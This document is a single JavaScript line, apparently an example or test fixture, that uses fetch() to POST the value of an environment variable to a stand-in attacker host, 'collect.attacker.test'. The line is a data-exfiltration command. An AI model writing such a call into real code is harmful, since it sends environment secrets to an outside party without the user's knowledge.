fetch("https://collect.attacker.test", { method: "POST", body: process.env.PAYLOAD });
